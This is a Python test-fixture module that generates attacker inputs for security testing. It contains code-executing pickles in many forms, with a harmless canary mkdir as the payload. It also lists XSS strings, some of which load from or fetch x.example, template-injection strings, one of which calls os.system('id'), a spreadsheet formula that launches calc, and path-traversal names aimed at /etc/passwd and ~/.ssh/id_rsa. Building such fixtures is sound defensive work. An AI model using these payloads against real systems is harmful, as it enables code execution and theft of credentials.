"""Files and strings of an attacker: pickles that run code, script injection, path traversal."""

from __future__ import annotations

import copyreg
import os
import pickle
import random
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np


class Reduce:
    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.canary),)


class SetState:
    """Harmless to create, harmful to fill."""

    def __setstate__(self, state: str) -> None:
        os.mkdir(state)

    def __reduce__(self) -> tuple[Any, ...]:
        return copyreg.__newobj__, (SetState,), self.canary  # type: ignore[attr-defined]


def _set_state(canary: Path) -> SetState:
    made = SetState()
    made.canary = str(canary)  # type: ignore[attr-defined]
    return made


def call(module: str, name: str, argument: str) -> bytes:
    text = argument.encode()
    return b"\x80\x02c%b\n%b\nX%b%b\x85R." % (module.encode(), name.encode(), struct.pack("<I", len(text)), text)


def _getattr_chain(canary: Path) -> bytes:
    """getattr(__import__("os"), "mkdir")(canary)"""
    module = b"c__builtin__\n__import__\nX\x02\x00\x00\x00os\x85R"
    path = str(canary).encode()
    function = b"c__builtin__\ngetattr\n(" + module + b"X\x05\x00\x00\x00mkdirtR"
    return b"\x80\x02" + function + b"X%b%b\x85R." % (struct.pack("<I", len(path)), path)


HOSTILE_PICKLES: dict[str, Callable[[Path], bytes]] = {
    "reduce": lambda canary: pickle.dumps(Reduce(canary)),
    "reduce, protocol 0": lambda canary: pickle.dumps(Reduce(canary), protocol=0),
    "reduce, protocol 2": lambda canary: pickle.dumps(Reduce(canary), protocol=2),
    "nested": lambda canary: pickle.dumps({"labels": [1, [Reduce(canary)]], "data": np.zeros((2, 3), np.uint8)}),
    "as a key": lambda canary: pickle.dumps({"data": {(1, Reduce(canary)): 3}}),
    "set state": lambda canary: pickle.dumps({"data": _set_state(canary)}, protocol=2),
    "set state, protocol 4": lambda canary: pickle.dumps([_set_state(canary)], protocol=4),
    "object array": lambda canary: pickle.dumps({"data": np.array([Reduce(canary)], dtype=object)}, protocol=2),
    "instance": lambda canary: b"(S'%b'\nios\nmkdir\n." % str(canary).encode(),
    "object": lambda canary: b"\x80\x02(cos\nmkdir\nX%b%bo." % (struct.pack("<I", len(str(canary))), bytes(canary)),
    "stack global": lambda canary: (
        b"\x80\x04\x8c\x02os\x8c\x05mkdir\x93\x8c%b%b\x85R." % (bytes([len(str(canary))]), bytes(canary))
    ),
    "os.system": lambda canary: call("os", "system", f"mkdir '{canary}'"),
    "eval": lambda canary: call("builtins", "eval", f"__import__('os').mkdir({str(canary)!r})"),
    "getattr chain": _getattr_chain,
}


def forged_pickle(draw: random.Random, canary: Path, batch: dict[str, Any]) -> bytes:
    """A batch with a call somewhere in it, under random containers, in a random protocol."""
    value: Any = draw.choice([Reduce(canary), _set_state(canary)])
    for _ in range(draw.randrange(6)):
        value = draw.choice([lambda v: [1, v], lambda v: (v, 2), lambda v: {"x": v}, lambda v: {3: [v]}])(value)
    key = draw.choice([*batch, "more"])
    items = [*{**batch, key: value}.items()]
    draw.shuffle(items)
    return pickle.dumps(dict(items), protocol=draw.randrange(pickle.HIGHEST_PROTOCOL + 1))


_SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    '"><img src=x onerror={}>',
    "' onmouseover='{}",
    '" onfocus="{}" autofocus="',
    "</style><script>{}</script>",
    "</title><svg onload={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<math><mtext></p><style><img src=x onerror={}>",
    "<details open ontoggle={}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<link rel=stylesheet href=//x.example/a.css>",
    "<base href=//x.example/>",
    "<form action=javascript:{}><input type=submit>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<x onclick={}>",
    "<!--",
)
_CALLS = ("alert(1)", "alert`1`", "fetch('//x.example')", "eval(atob('YWxlcnQoMSk='))")
TEXTS = [script.format(call) for script in _SCRIPTS for call in _CALLS if "{}" in script or call == _CALLS[0]] + [
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.system('id') }}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "&lt;script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e",
    "$\\undefined{formula", "expression(alert(1))", "url(//x.example)", "@import '//x.example';", "\u202ealert(1)",
    "=cmd|'/c calc'!A0",
]  # fmt: skip
"""Strings that run code if a page, a template, a style sheet or a formula takes them for its own."""


def traversals(target: str) -> list[str]:
    """Names that lead to `target` in a parent directory, plain and encoded."""
    ups = [
        "../", "..\\", "./../", "..//", ".../", "....//", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f",
        "..%c0%af", "%c0%ae%c0%ae/", "..\u2215", "\uff0e\uff0e/", "..;/", "x/../../", "\x00../", " ../", "../\x00",
    ]  # fmt: skip
    names = [up * 2 + target for up in ups]
    names += [up * 6 + "etc/passwd" for up in ups[:8]]
    return [
        *names, "/etc/passwd", "//etc/passwd", "~/.ssh/id_rsa", "C:\\Windows\\win.ini", "\\\\host\\share", "file:///etc/passwd",
        "/proc/self/environ", "/dev/stdin", ".", "..", "", target + "/.",
    ]  # fmt: skip
